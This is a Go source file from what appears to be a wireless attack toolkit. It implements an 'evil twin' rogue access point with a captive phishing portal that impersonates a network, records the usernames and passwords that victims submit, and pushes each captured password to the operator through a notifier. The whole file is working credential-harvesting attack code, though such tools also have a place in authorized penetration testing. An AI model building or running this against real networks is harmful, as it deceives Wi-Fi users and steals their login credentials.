// Package eviltwin runs the software AP plus captive portal. The twin
// borrows the whole radio: the app layer suspends capture and channel
// hopping before starting it and resumes them after stop.
package eviltwin

import (
	"context"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"sync"
	"time"

	"github.com/gattrose/gattrose-ng/internal/core/domain"
	"github.com/gattrose/gattrose-ng/internal/core/ports"
	"github.com/gattrose/gattrose-ng/internal/telemetry"
)

const (
	// DefaultListenAddr is where the portal HTTP server binds. On the
	// AP network every client lands here via DNS/redirect capture.
	DefaultListenAddr = ":8080"

	defaultChannel  = 6
	minPassphrase   = 8
	maxCredentials  = 64
	shutdownTimeout = 5 * time.Second
)

// Twin owns the soft-AP lifecycle and the portal HTTP server.
type Twin struct {
	logger *slog.Logger
	radio  ports.Radio
	notify ports.Notifier

	listenAddr string

	mu     sync.Mutex
	cfg    ports.APConfig
	portal int
	active bool
	srv    *http.Server
	creds  []domain.Credential
}

// New creates an idle twin. listenAddr "" selects the default.
func New(logger *slog.Logger, radio ports.Radio, notify ports.Notifier, listenAddr string) *Twin {
	if listenAddr == "" {
		listenAddr = DefaultListenAddr
	}
	return &Twin{
		logger:     logger.With(slog.String("component", "eviltwin")),
		radio:      radio,
		notify:     notify,
		listenAddr: listenAddr,
		portal:     PortalDefault,
	}
}

// SetAPConfig stores the advertised network parameters. An empty
// password selects an open AP; a set one must be a valid passphrase.
func (t *Twin) SetAPConfig(ssid, password string, channel int) error {
	if ssid == "" {
		return domain.ErrMissingArgs
	}
	if len(ssid) > domain.MaxSSIDLen {
		return domain.ErrInvalidArgs
	}
	if password != "" && len(password) < minPassphrase {
		return domain.ErrInvalidArgs
	}
	if channel <= 0 {
		channel = defaultChannel
	}
	if channel > 177 {
		return domain.ErrInvalidArgs
	}

	t.mu.Lock()
	t.cfg = ports.APConfig{SSID: ssid, Password: password, Channel: channel}
	t.mu.Unlock()

	t.logger.Info("AP config set",
		slog.String("ssid", ssid),
		slog.Int("channel", channel),
		slog.Bool("open", password == ""))
	return nil
}

// Config returns the stored AP parameters.
func (t *Twin) Config() ports.APConfig {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.cfg
}

// SelectPortal switches the served portal, live when the twin runs.
func (t *Twin) SelectPortal(id int) (string, error) {
	if !ValidPortal(id) {
		return "", domain.ErrInvalidArgs
	}
	t.mu.Lock()
	t.portal = id
	t.mu.Unlock()

	name := PortalName(id)
	t.logger.Info("portal selected", slog.String("portal", name))
	return name, nil
}

// Portal reports the selected portal id and name.
func (t *Twin) Portal() (int, string) {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.portal, PortalName(t.portal)
}

// Active reports whether the twin is serving.
func (t *Twin) Active() bool {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.active
}

// Start brings up the soft AP and the portal HTTP server.
func (t *Twin) Start(portalID int) error {
	if !ValidPortal(portalID) {
		return domain.ErrInvalidArgs
	}

	t.mu.Lock()
	if t.active {
		t.mu.Unlock()
		return domain.ErrAlreadyRunning
	}
	t.portal = portalID
	cfg := t.cfg
	if cfg.SSID == "" {
		cfg = ports.APConfig{SSID: portals[portalID].DefaultSSID, Channel: defaultChannel}
	}
	t.mu.Unlock()

	if err := t.radio.StartAP(cfg); err != nil {
		return fmt.Errorf("%w: %s", domain.ErrAPStartFailed, err)
	}

	lis, err := net.Listen("tcp", t.listenAddr)
	if err != nil {
		_ = t.radio.StopAP()
		return fmt.Errorf("%w: portal listen: %s", domain.ErrAPStartFailed, err)
	}

	srv := &http.Server{
		Handler:           t.router(),
		ReadHeaderTimeout: 10 * time.Second,
	}

	t.mu.Lock()
	t.active = true
	t.cfg = cfg
	t.srv = srv
	t.mu.Unlock()

	go func() {
		if err := srv.Serve(lis); err != nil && err != http.ErrServerClosed {
			t.logger.Error("portal server stopped", slog.String("error", err.Error()))
		}
	}()

	t.logger.Info("evil twin started",
		slog.String("ssid", cfg.SSID),
		slog.Int("channel", cfg.Channel),
		slog.String("portal", PortalName(portalID)),
		slog.String("addr", t.listenAddr))
	return nil
}

// Stop tears down the portal and the soft AP. Idempotent.
func (t *Twin) Stop() error {
	t.mu.Lock()
	if !t.active {
		t.mu.Unlock()
		return nil
	}
	srv := t.srv
	t.active = false
	t.srv = nil
	t.mu.Unlock()

	if srv != nil {
		ctx, cancel := context.WithTimeout(context.Background(), shutdownTimeout)
		defer cancel()
		if err := srv.Shutdown(ctx); err != nil {
			t.logger.Warn("portal shutdown", slog.String("error", err.Error()))
		}
	}
	if err := t.radio.StopAP(); err != nil {
		t.logger.Warn("soft AP stop", slog.String("error", err.Error()))
	}

	t.logger.Info("evil twin stopped")
	return nil
}

// Credentials returns the captured submissions, oldest first.
func (t *Twin) Credentials() []domain.Credential {
	t.mu.Lock()
	defer t.mu.Unlock()
	return append([]domain.Credential(nil), t.creds...)
}

// activeSSID runs under t.mu.
func (t *Twin) activeSSID() string {
	if t.cfg.SSID != "" {
		return t.cfg.SSID
	}
	return portals[t.portal].DefaultSSID
}

func (t *Twin) recordCredential(username, password string) {
	t.mu.Lock()
	cred := domain.Credential{
		SSID:      t.activeSSID(),
		Username:  username,
		Password:  password,
		Timestamp: time.Now(),
	}
	t.creds = append(t.creds, cred)
	if len(t.creds) > maxCredentials {
		t.creds = t.creds[len(t.creds)-maxCredentials:]
	}
	t.mu.Unlock()

	telemetry.CredentialsCaptured.Inc()
	// The password itself stays off the log; the push carries it.
	t.logger.Info("portal credential captured",
		slog.String("ssid", cred.SSID),
		slog.String("username", username))

	if t.notify != nil {
		t.notify.Credential(cred)
	}
}
